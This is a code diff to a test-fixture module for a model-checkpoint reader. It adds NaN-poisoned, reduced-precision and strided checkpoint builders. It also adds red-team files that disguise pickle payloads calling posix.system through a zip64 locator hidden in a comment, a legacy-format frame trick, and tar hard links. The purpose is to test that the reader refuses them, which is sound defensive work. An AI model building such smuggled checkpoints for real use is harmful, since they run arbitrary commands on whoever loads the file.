@@ -81,10 +81,56 @@ def hostile_checkpoint(path, payload) -> str:
     return synthetic.save({"model": {"embed.weight": torch.zeros(2, 2)}, "x": payload}, str(path))
 
 
+def altered_small_checkpoint(path, variant: str = "v2", seed: int = 0, step: int | None = None, mutate=None,
+                             pickle_protocol: int = 2, optimizers: bool = True, **kw) -> str:
+    """:func:`small_checkpoint` with its state dict changed by ``mutate(sd)`` before saving, written
+    with ``pickle_protocol`` and optionally without optimizer state."""
+    sd = synthetic.small_state_dict(variant, vocab=VOCAB, seed=seed, **kw)
+    if mutate:
+        mutate(sd)
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    obj = synthetic.upstream_checkpoint(sd, "small", step=step or _step(path), optimizers=optimizers)
+    torch.save(obj, str(path), pickle_protocol=pickle_protocol)
+    return str(path)
+
+
+def poisoned_small_checkpoint(path, key: str, index: tuple, value: float, variant: str = "v2", seed: int = 0,
+                              step: int | None = None) -> str:
+    """:func:`small_checkpoint` with ``value`` (a NaN, an Inf) written at ``index`` of weight ``key``."""
+    def poison(sd):
+        sd[key][index] = value
+    return altered_small_checkpoint(path, variant, seed=seed, step=step, mutate=poison)
+
+
+def _attention_in_half_precisions(sd):
+    """qkv_w in bf16 and c_proj in fp16: the converter builds qkvo_w in their promoted dtype (fp32)."""
+    for key in list(sd):
+        if key.endswith(".attn.qkv_w"):
+            sd[key] = sd[key].bfloat16()
+        elif key.endswith(".attn.c_proj.weight"):
+            sd[key] = sd[key].half()
+
+
+def _lambdas_in_bf16(sd):
+    """v1's per-block lambdas in bf16 beside fp32 skip weights: packed scalars promoted to fp32."""
+    for key in list(sd):
+        if key.endswith("lambdas"):
+            sd[key] = sd[key].bfloat16()
+
+
+def _strided_and_offset(sd):
+    """A weight saved as a transposed view (strides (1, rows)) and one at an offset in a larger storage."""
+    fc = sd["blocks.0.mlp.c_fc.weight"]
+    sd["blocks.0.mlp.c_fc.weight"] = fc.T.contiguous().T
+    proj = sd["blocks.1.mlp.c_proj.weight"]
+    big = torch.randn(4 * proj.numel(), generator=torch.Generator().manual_seed(1))
+    big[proj.numel():2 * proj.numel()] = proj.flatten()
+    sd["blocks.1.mlp.c_proj.weight"] = big[proj.numel():2 * proj.numel()].view(proj.shape)
+
+
 def _nan_small(path, seed):
-    sd = synthetic.small_state_dict("v2", vocab=VOCAB, seed=seed)
-    sd["blocks.1.mlp.c_fc.weight"][0, 0] = float("nan")  # converts, then fails its logit check
-    synthetic.save(synthetic.upstream_checkpoint(sd, "small", step=_step(path)), str(path))
+    # Refused before conversion: "non-finite values in blocks.1.mlp.c_fc.weight (1 NaN, 0 Inf)".
+    poisoned_small_checkpoint(path, "blocks.1.mlp.c_fc.weight", (0, 0), float("nan"), seed=seed)
 
 
 def _raw(data: bytes):
@@ -105,6 +151,30 @@ KINDS = {
     "no known layout": lambda path, seed: synthetic.save({"model": {"w": torch.zeros(3)}}, str(path)),
     "empty": _raw(b""),
     "truncated zip": _raw(b"PK\x03\x04 cut short"),
+}
+
+
+def _with_protocol(protocol: int):
+    return lambda path, seed: altered_small_checkpoint(path, "v2", seed=seed, pickle_protocol=protocol)
+
+
+# Every kind of small file the tests convert, by name: each must convert, and its converted
+# weights must equal what torch.load(weights_only=True) reads from it (test_torch_agreement.py).
+CONVERTED_KINDS = {
+    "small v1": KINDS["small v1"],
+    "small v2": KINDS["small v2"],
+    # Protocol 0 is left out: torch.load cannot read such a file (its persistent ids are text),
+    # so the reader calls it unreadable (test_reader.py::test_protocol_0_files_are_unreadable_...).
+    **{f"small v2, pickle protocol {n}": _with_protocol(n) for n in (1, 4, 5)},
+    "small v1, no optimizer state": lambda path, seed: altered_small_checkpoint(path, "v1", seed=seed, optimizers=False),
+    "small v2, attention in bf16 and fp16": lambda path, seed: altered_small_checkpoint(
+        path, "v2", seed=seed, mutate=_attention_in_half_precisions),
+    "small v1, lambdas in bf16": lambda path, seed: altered_small_checkpoint(path, "v1", seed=seed,
+                                                                             mutate=_lambdas_in_bf16),
+    "small v2, two heads (model_dim 256)": lambda path, seed: altered_small_checkpoint(
+        path, "v2", seed=seed, num_heads=2, model_dim=256),
+    "small v2, strided and offset weights": lambda path, seed: altered_small_checkpoint(
+        path, "v2", seed=seed, mutate=_strided_and_offset),
 }
 
 
@@ -130,6 +200,7 @@ import sys  # noqa: E402
 import tarfile  # noqa: E402
 import types  # noqa: E402
 import zipfile  # noqa: E402
+import zlib  # noqa: E402
 
 LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
 LEGACY_PROTOCOL_VERSION = 1001
@@ -463,6 +534,105 @@ def tar_file(path, marker=None, payload_in: str = "pickle") -> str:
             tar.addfile(info, io.BytesIO(data))
     return str(path)
 
+
+# -- containers that Python's zipfile or tarfile, or a reader that does not peek, read one way and
+# torch another (red team, issue 19): the ground truth for these is torch.load itself
+
+def _zip_local(name: str, data: bytes) -> bytes:
+    raw = name.encode()
+    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
+                       len(raw), 0) + raw + data
+
+
+def _zip_central(name: str, data: bytes, offset: int, comment: bytes = b"") -> bytes:
+    raw = name.encode()
+    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
+                       len(data), len(raw), 0, len(comment), 0, 0, 0, offset) + raw + comment
+
+
+def zip64_locator_in_comment(path, marker) -> str:
+    """Two archives in one file. Python's zipfile reads archive A (an honest checkpoint) from the
+    end record; a zip64 locator hidden in the 20 bytes before that record (the end of the last
+    entry's comment) sends torch's reader to archive B, whose data.pkl calls ``posix.system``."""
+    pkl, names = _saved_pickle({"model": _small_model(), "step": 100})
+    honest = [(names["data.pkl"], pkl)] + [(n, d) for n, d in names.items() if n != "data.pkl"]
+    hostile = [(n, _call_bytes("posix", "system", payload_command(marker)) + b"." if n.endswith("data.pkl") else d)
+               for n, d in honest]
+    out, offsets = b"", {}
+    for tag, entries in (("A", honest), ("B", hostile)):
+        offsets[tag] = []
+        for name, data in entries:
+            offsets[tag].append(len(out))
+            out += _zip_local(name, data)
+    central_b = b"".join(_zip_central(n, d, o) for (n, d), o in zip(hostile, offsets["B"]))
+    central_b_at = len(out)
+    out += central_b
+    zip64_at = len(out)
+    out += struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, len(hostile), len(hostile), len(central_b),
+                       central_b_at)
+    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, zip64_at, 1)
+    central_a = b"".join(_zip_central(n, d, o, comment=b"\0" * 56 + locator if i == len(honest) - 1 else b"")
+                         for i, ((n, d), o) in enumerate(zip(honest, offsets["A"])))
+    central_a_at = len(out)
+    out += central_a + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(honest), len(honest), len(central_a),
+                                   central_a_at, 0)
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(out)
+    return str(path)
+
+
+def storage_twins_differing_in_case(path, lower_first: bool = True) -> str:
+    """``{'w': arange(4)}`` whose storage is ``data/a``, beside a ``data/A`` of 666s: zipfile
+    matches names exactly, torch's reader without regard to case."""
+    pkl, names = _saved_pickle({"w": torch.arange(4, dtype=torch.float32)})
+    pkl = pkl.replace(b"X\x01\x00\x00\x000", b"X\x01\x00\x00\x00a")
+    folder = names["data.pkl"].rsplit("/", 1)[0]
+    twins = [(f"{folder}/data/a", names.pop(f"{folder}/data/0")),
+             (f"{folder}/data/A", torch.full((4,), 666.0).numpy().tobytes())]
+    names.update(twins if lower_first else twins[::-1])
+    return write_zip_checkpoint(path, pkl, names)
+
+
+def legacy_stop_inside_frame(path, marker) -> str:
+    """A pre-1.6 file whose first pickle (the magic number) ends inside a frame that goes on with a
+    call: torch reads the next pickle from its file buffer right after STOP, so it runs the call."""
+    with open(legacy_file(path), "rb") as f:
+        honest = f.read()
+    first = pickle.dumps(LEGACY_MAGIC_NUMBER, protocol=2)
+    assert honest.startswith(first)
+    body = first[2:] + _call_bytes("posix", "system", payload_command(marker)) + b"."
+    with open(path, "wb") as f:
+        f.write(b"\x80\x04" + _frame(len(body)) + body + honest[len(first):])
+    return str(path)
+
+
+def tar_member_linked(path, marker, member: str = "pickle") -> str:
+    """The tar format with ``member`` a hard link to a member that calls ``posix.system``."""
+    tar_file(path)
+    with tarfile.open(str(path), "r:") as tar:
+        members = {i.name: tar.extractfile(i).read() for i in tar.getmembers()}
+    with tarfile.open(str(path), "w:", format=tarfile.PAX_FORMAT) as tar:
+        payload = _call_bytes("posix", "system", payload_command(marker)) + b"."
+        for name, data in [("evil", payload)] + list(members.items()):
+            info = tarfile.TarInfo(name)
+            if name == member:
+                info.type, info.linkname = tarfile.LNKTYPE, "evil"
+                tar.addfile(info)
+            else:
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+    return str(path)
+
+
+# Attacks whose container Python's own readers see differently from torch: (builder, name).
+TORCH_LOAD_ATTACKS = {
+    "zip64 locator in a comment sends torch to a second archive": (zip64_locator_in_comment, "posix.system"),
+    "legacy file, STOP inside a frame that goes on with a call": (legacy_stop_inside_frame, "posix.system"),
+    "tar format, pickle a hard link to a hostile member": (tar_member_linked, "posix.system"),
+    "tar format, storages a hard link to a hostile member": (lambda p, m: tar_member_linked(p, m, "storages"),
+                                                             "posix.system"),
+}
 
 _DOTTED = {"Counter": "collections.Counter", "OrderedDict": "collections.OrderedDict",
            "defaultdict": "collections.defaultdict", "set": "builtins.set"}
